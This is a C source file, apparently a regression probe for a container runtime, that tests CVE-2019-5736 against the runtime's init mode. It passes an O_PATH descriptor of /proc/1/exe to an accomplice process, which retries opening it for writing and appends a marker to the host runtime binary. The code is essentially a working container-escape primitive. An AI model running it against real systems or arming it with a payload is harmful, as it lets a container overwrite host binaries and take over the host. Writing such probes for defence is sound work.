/* CVE-2019-5736 against `--init`: the container's pid 1 is cairn's init,
 * a process of the host's runtime binary that lives as long as the
 * container. A container with CAP_SYS_PTRACE may open /proc/1/exe. The
 * binary is busy while the init runs, so the container cannot write it
 * itself; it hands an O_PATH fd of it to an accomplice outside its life
 * (another container sharing a volume), which writes the binary once it
 * is idle.
 *
 *   init_exe send SOCK      open /proc/1/exe O_PATH, send it over the
 *                           unix socket SOCK, print "sent TARGET"
 *   init_exe recv SOCK SECONDS MARKER
 *                           listen on SOCK, print "ready", take one fd,
 *                           then for at most SECONDS reopen it for writing
 *                           through /proc/self/fd and append MARKER;
 *                           print "wrote" or "refused ERRNO", then "done" */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static struct sockaddr_un addr(const char *path) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    return a;
}

static int send_exe(const char *path) {
    int fd = open("/proc/1/exe", O_PATH);
    if (fd < 0) {
        printf("open /proc/1/exe: %s\n", strerror(errno));
        return 1;
    }
    char t[256];
    ssize_t n = readlink("/proc/1/exe", t, sizeof t - 1);
    t[n > 0 ? n : 0] = 0;
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = addr(path);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
        printf("connect: %s\n", strerror(errno));
        return 1;
    }
    char byte = 'x', ctl[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec io = {.iov_base = &byte, .iov_len = 1};
    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1,
                       .msg_control = ctl, .msg_controllen = sizeof ctl};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    if (sendmsg(s, &m, 0) != 1) {
        printf("sendmsg: %s\n", strerror(errno));
        return 1;
    }
    printf("sent %s\n", t);
    return 0;
}

static int recv_exe(const char *path, double secs, const char *marker) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = addr(path);
    unlink(path);
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 1) != 0) {
        printf("listen: %s\n", strerror(errno));
        return 1;
    }
    chmod(path, 0777);
    printf("ready\n");
    int c = accept(s, NULL, NULL);
    char byte, ctl[CMSG_SPACE(sizeof(int))];
    struct iovec io = {.iov_base = &byte, .iov_len = 1};
    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1,
                       .msg_control = ctl, .msg_controllen = sizeof ctl};
    if (c < 0 || recvmsg(c, &m, 0) != 1 || !CMSG_FIRSTHDR(&m)) {
        printf("recvmsg: %s\n", strerror(errno));
        return 1;
    }
    int fd;
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    double end = now() + secs;
    int err = 0;
    for (;;) {
        int w = open(p, O_WRONLY | O_APPEND);
        if (w >= 0) {
            if (write(w, marker, strlen(marker)) > 0) {
                printf("wrote\n");
                break;
            }
            err = errno;
            close(w);
        } else {
            err = errno;
        }
        if (err != ETXTBSY || now() > end) {
            printf("refused %s\n", strerror(err));
            break;
        }
        usleep(10000);
    }
    printf("done\n");
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "send") == 0)
        return send_exe(argv[2]);
    if (argc == 5 && strcmp(argv[1], "recv") == 0)
        return recv_exe(argv[2], atof(argv[3]), argv[4]);
    fprintf(stderr, "usage: init_exe send SOCK | recv SOCK SECONDS MARKER\n");
    return 2;
}
